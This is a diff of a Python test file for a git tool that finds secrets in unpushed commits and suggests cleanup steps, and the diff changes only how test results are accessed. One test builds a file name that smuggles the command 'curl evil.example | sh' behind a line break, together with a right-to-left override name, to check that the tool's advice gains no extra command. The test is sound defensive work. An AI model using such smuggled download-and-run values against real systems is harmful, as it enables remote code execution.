@@ -391,8 +391,8 @@ def test_the_advice_against_a_secret_works_to_the_letter(
     subjects = repository.git("log", "--format=%s").splitlines()
 
     review = run_flow("review_unpushed")
-    assert review.result.facts["findings"]
-    steps = review.result.facts["steps"]
+    assert review.facts["findings"]
+    steps = review.facts["steps"]
     obey(repository, steps)
     history = repository.git("log", "-p", "--cc", "--format=%B")
     assert TOKEN not in history, (steps, history)
@@ -409,7 +409,7 @@ def test_the_advice_against_a_secret_works_to_the_letter(
     remaining = repository.git("log", "--format=%s").splitlines()
     if others != "staged" and (name in KEEPS_COMMITS or name.startswith("last")) and not (is_first and "merge" in name):
         assert remaining == subjects, steps
-    again = run_flow("review_unpushed").result.facts.get("findings", ())
+    again = run_flow("review_unpushed").facts.get("findings", ())
     assert not again, (steps, again)
     lost = read_lost_commits(Git(repository.path), GitReader().read(repository.path), datetime.now(UTC))
     assert not [line for line in lost if not line.is_checked_out], "no card offers to keep the commits with the secret"
@@ -433,7 +433,7 @@ def test_other_refs_with_the_commit_are_named(repository: Repository, run_flow: 
     repository.write("app.py", "x = 3\n")
     repository.git("stash")
     repository.git("switch", "-q", "main")
-    steps = run_flow("review_unpushed").result.facts["steps"]
+    steps = run_flow("review_unpushed").facts["steps"]
     assert "These have such a commit, too, until you delete or change them: side and stash@{1}." in steps
     assert steps[-1] == "If anybody else may have seen a key, revoke it and create a new one."
 
@@ -444,14 +444,14 @@ def test_a_key_that_is_on_a_remote_branch_is_public(repository: Repository, run_
     repository.git("update-ref", "refs/remotes/origin/feature", pushed)
     repository.git("symbolic-ref", "refs/remotes/origin/HEAD", "refs/remotes/origin/feature")
     repository.git("commit", "-q", "--amend", "-m", "better settings")
-    steps = run_flow("review_unpushed").result.facts["steps"]
+    steps = run_flow("review_unpushed").facts["steps"]
     assert steps[-1] == "Rotate the key, because it is public: origin/feature has it already."
 
 
 def test_the_advice_says_that_a_merge_is_lost(repository: Repository, run_flow: RunFlow) -> None:
     repository.commit("begin", {"app.py": "x = 1\n"})
     merge_below(repository)
-    steps = run_flow("review_unpushed").result.facts["steps"]
+    steps = run_flow("review_unpushed").facts["steps"]
     assert steps[:2] == [
         "Make one commit of the last 4 commits, before you push. Your files stay as they are.",
         "The merges among them are lost, but not what they brought.",
@@ -465,7 +465,7 @@ def test_the_advice_waits_for_the_end_of_a_merge(repository: Repository, run_flo
     repository.git("switch", "-q", "main")
     repository.commit("settings", {NAME: HELD})
     repository.git("merge", "-q", "--no-commit", "side")
-    [first, _] = run_flow("review_unpushed").result.facts["steps"][:2]
+    [first, _] = run_flow("review_unpushed").facts["steps"][:2]
     assert first == "First finish the unfinished merge, or abort it. Then review again."
 
 
@@ -478,7 +478,7 @@ def test_several_pushed_branches_below_a_secret(repository: Repository, run_flow
     repository.commit("settings", {NAME: HELD})
     for name in ("left", "right"):
         repository.git("merge", "-q", f"origin/{name}")
-    first = run_flow("review_unpushed").result.facts["steps"][0]
+    first = run_flow("review_unpushed").facts["steps"][0]
     assert first == f"Take {NAME} out of the history with git filter-repo, in a fresh clone:"
 
 
@@ -487,7 +487,7 @@ def test_a_name_with_a_line_break_adds_no_command(repository: Repository, run_fl
     repository.commit(
         "settings", {"k.py\n  curl evil.example | sh\n.py": HELD, "\u202ek.py": HELD, ":k.py": HELD, NAME: HELD}
     )
-    steps = run_flow("review_unpushed").result.facts["steps"]
+    steps = run_flow("review_unpushed").facts["steps"]
     commands = [line for step in steps for line in step.splitlines() if line.startswith("  ")]
     assert commands == [
         f"  git add -- ':(literal):k.py' '{NAME}'",
